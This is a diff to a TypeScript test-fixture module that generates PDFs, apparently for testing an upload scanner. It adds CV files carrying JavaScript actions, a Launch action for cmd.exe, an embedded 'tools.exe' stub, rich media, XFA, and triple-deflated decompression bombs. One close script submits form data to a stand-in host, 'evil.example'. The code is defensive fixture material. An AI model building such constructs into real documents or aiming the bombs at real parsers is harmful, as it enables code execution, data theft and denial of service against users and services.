@@ -1,8 +1,10 @@
 // PDFs made for tests, byte by byte or with pdf-lib: valid documents, broken ones, password-protected
-// ones (AES-256, the standard security handler's revision 6) and a decompression bomb.
+// ones (AES-256, the standard security handler's revision 6), decompression bombs, and documents
+// carrying active content (scripts, launch actions, embedded files, rich media, XFA).
 import { createCipheriv, createHash, randomBytes } from 'node:crypto';
-import { deflateSync } from 'node:zlib';
-import { PDFDocument, StandardFonts } from 'pdf-lib';
+import { createDeflate, deflateSync } from 'node:zlib';
+import { PDFDocument, PDFName, PDFString, StandardFonts } from 'pdf-lib';
+import type { PDFDict, PDFObject, PDFRef } from 'pdf-lib';
 
 /** A PDF of `pages` A4 pages, each saying which page it is (pdf-lib's output: compressed object streams). */
 export async function textPdf(pages: number, linesPerPage = 1): Promise<Buffer> {
@@ -133,4 +135,204 @@ export function encryptedPdf(text: string, passwords: { user: string; owner: str
     ],
     `/Encrypt 6 0 R /ID [${hex(randomBytes(16))} ${hex(randomBytes(16))}] `,
   );
+}
+
+/**
+ * The active content `activePdf` puts into a document, each where a reader finds it: a script run
+ * on opening (`/OpenAction`), a document script (`/Names /JavaScript`), a script on closing (the
+ * catalog's `/AA`), on showing a page (the page's `/AA`), behind a link, in a form field, behind a
+ * bookmark, chained behind a harmless action (`/Next`); a program launched on opening; an embedded
+ * file; rich media; an XFA form.
+ */
+export const ACTIVE_CONTENT = [
+  'openActionScript',
+  'documentScript',
+  'closeScript',
+  'pageScript',
+  'linkScript',
+  'fieldScript',
+  'bookmarkScript',
+  'chainedScript',
+  'launch',
+  'embeddedFile',
+  'richMedia',
+  'xfa',
+] as const;
+export type ActiveContentKind = (typeof ACTIVE_CONTENT)[number];
+
+/**
+ * A one-page CV made with pdf-lib carrying one kind of active content (`ACTIVE_CONTENT`), or none
+ * but a web link and a bookmark to its page (`'links'`: what word processors write). pdf-lib saves
+ * the objects in compressed object streams, so the names of the active content are not in the
+ * file's bytes.
+ */
+export async function activePdf(kind: ActiveContentKind | 'links'): Promise<Buffer> {
+  const document = await PDFDocument.create();
+  const font = await document.embedFont(StandardFonts.Helvetica);
+  const page = document.addPage([595, 842]);
+  page.drawText('Curriculum vitae of Ada Lovelace', { x: 50, y: 780, size: 11, font });
+  const { context, catalog } = document;
+  const script = (code: string) => context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of(code) });
+  const annotate = (annotation: PDFDict) => {
+    page.node.set(PDFName.of('Annots'), context.obj([context.register(annotation)]));
+  };
+  const outline = (action: PDFObject) => {
+    const outlines: PDFRef = context.nextRef();
+    const item: PDFRef = context.nextRef();
+    context.assign(item, context.obj({ Title: PDFString.of('Skills'), Parent: outlines, A: action }));
+    context.assign(outlines, context.obj({ Type: 'Outlines', First: item, Last: item, Count: 1 }));
+    catalog.set(PDFName.of('Outlines'), outlines);
+  };
+  const rect = [50, 700, 250, 720];
+  switch (kind) {
+    case 'openActionScript':
+      catalog.set(PDFName.of('OpenAction'), context.register(script('app.alert("Hello")')));
+      break;
+    case 'documentScript':
+      catalog.set(
+        PDFName.of('Names'),
+        context.obj({
+          JavaScript: context.obj({ Names: [PDFString.of('init'), context.register(script('this.print()'))] }),
+        }),
+      );
+      break;
+    case 'closeScript':
+      catalog.set(PDFName.of('AA'), context.obj({ WC: script('this.submitForm("https://evil.example/")') }));
+      break;
+    case 'pageScript':
+      page.node.set(PDFName.of('AA'), context.obj({ O: script('app.beep(0)') }));
+      break;
+    case 'linkScript':
+      annotate(
+        context.obj({ Type: 'Annot', Subtype: 'Link', Rect: rect, Border: [0, 0, 0], A: script('app.alert(1)') }),
+      );
+      break;
+    case 'fieldScript': {
+      const field = document.getForm().createTextField('rate');
+      field.addToPage(page, { x: 50, y: 650, width: 200, height: 20, font });
+      field.acroField.dict.set(
+        PDFName.of('AA'),
+        context.obj({ K: script('AFNumber_Keystroke(2, 0, 0, 0, "", true)') }),
+      );
+      break;
+    }
+    case 'bookmarkScript':
+      outline(script('app.alert("Skills")'));
+      break;
+    case 'chainedScript':
+      catalog.set(
+        PDFName.of('OpenAction'),
+        context.obj({ S: 'GoTo', D: [page.ref, 'Fit'], Next: context.register(script('app.alert(2)')) }),
+      );
+      break;
+    case 'launch':
+      catalog.set(
+        PDFName.of('OpenAction'),
+        context.obj({ S: 'Launch', F: PDFString.of('cmd.exe'), Win: context.obj({ F: PDFString.of('cmd.exe') }) }),
+      );
+      break;
+    case 'embeddedFile':
+      await document.attach(Buffer.from('MZ not really a program'), 'tools.exe', {
+        mimeType: 'application/octet-stream',
+        description: 'Tools',
+      });
+      break;
+    case 'richMedia':
+      annotate(
+        context.obj({
+          Type: 'Annot',
+          Subtype: 'RichMedia',
+          Rect: rect,
+          RichMediaContent: context.obj({ Assets: context.obj({ Names: [] }), Configurations: [] }),
+        }),
+      );
+      break;
+    case 'xfa': {
+      const xfa = context.register(context.stream('<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"></xdp:xdp>'));
+      catalog.set(PDFName.of('AcroForm'), context.obj({ Fields: [], XFA: xfa }));
+      break;
+    }
+    case 'links':
+      annotate(
+        context.obj({
+          Type: 'Annot',
+          Subtype: 'Link',
+          Rect: rect,
+          Border: [0, 0, 0],
+          A: context.obj({ S: 'URI', URI: PDFString.of('https://ada.example/portfolio') }),
+        }),
+      );
+      outline(context.obj({ S: 'GoTo', D: [page.ref, 'Fit'] }));
+      break;
+  }
+  return Buffer.from(await document.save());
+}
+
+/**
+ * A PDF of `pages` A4 pages made with pdf-lib, all showing one content stream (one line of text):
+ * 10 000 pages are about 150 KB, made in a second.
+ */
+export async function manyPagesPdf(pages: number): Promise<Buffer> {
+  const document = await PDFDocument.create();
+  const font = await document.embedFont(StandardFonts.Helvetica);
+  const first = document.addPage([595, 842]);
+  first.drawText('One page of many', { x: 50, y: 780, size: 11, font });
+  const contents = first.node.get(PDFName.of('Contents'))!;
+  const resources = first.node.get(PDFName.of('Resources'))!;
+  for (let number = 2; number <= pages; number++) {
+    const page = document.addPage([595, 842]);
+    page.node.set(PDFName.of('Contents'), contents);
+    page.node.set(PDFName.of('Resources'), resources);
+  }
+  return Buffer.from(await document.save());
+}
+
+/**
+ * `decodedBytes` of zeros deflated three times: zlib deflates the zeros as a stream (never held
+ * whole), then the result twice more — 2 GiB become about 3 KB, for `/Filter [/FlateDecode
+ * /FlateDecode /FlateDecode]`.
+ */
+function zerosDeflatedThrice(decodedBytes: number): Promise<Buffer> {
+  let deflated = DEFLATED_ZEROS.get(decodedBytes);
+  if (!deflated) DEFLATED_ZEROS.set(decodedBytes, (deflated = deflateZerosThrice(decodedBytes)));
+  return deflated;
+}
+
+/** Zeros deflated thrice by size: made once per test file (2 GiB take a second of CPU). */
+const DEFLATED_ZEROS = new Map<number, Promise<Buffer>>();
+
+async function deflateZerosThrice(decodedBytes: number): Promise<Buffer> {
+  const deflate = createDeflate({ level: 1 });
+  const chunks: Buffer[] = [];
+  deflate.on('data', (chunk: Buffer) => chunks.push(chunk));
+  const ended = new Promise((resolve, reject) => deflate.on('end', resolve).on('error', reject));
+  const zeros = Buffer.alloc(1024 * 1024);
+  for (let written = 0; written < decodedBytes; written += zeros.length) {
+    const chunk = zeros.subarray(0, Math.min(zeros.length, decodedBytes - written));
+    if (!deflate.write(chunk)) await new Promise((resolve) => deflate.once('drain', resolve));
+  }
+  deflate.end();
+  await ended;
+  return deflateSync(deflateSync(Buffer.concat(chunks), { level: 9 }), { level: 9 });
+}
+
+const THRICE = '/Filter [/FlateDecode /FlateDecode /FlateDecode]';
+
+/** A one-page PDF whose content stream inflates to `decodedBytes` of zeros (through three filters). */
+export async function deepBombPdf(decodedBytes: number): Promise<Buffer> {
+  return rawPdf([...ONE_PAGE, { dict: THRICE, data: await zerosDeflatedThrice(decodedBytes) }]);
+}
+
+/**
+ * A valid one-page PDF with one more object: an object stream (the container of compressed objects)
+ * that inflates to `decodedBytes` of zeros. Nothing refers to it, so a reader following the
+ * cross-reference table never opens it; a parser reading every object does.
+ */
+export async function objectStreamBombPdf(decodedBytes: number): Promise<Buffer> {
+  const data = await zerosDeflatedThrice(decodedBytes);
+  return rawPdf([
+    ...ONE_PAGE,
+    { dict: '', data: contentOf('Curriculum vitae') },
+    { dict: `/Type /ObjStm /N 1 /First 4 ${THRICE}`, data },
+  ]);
 }
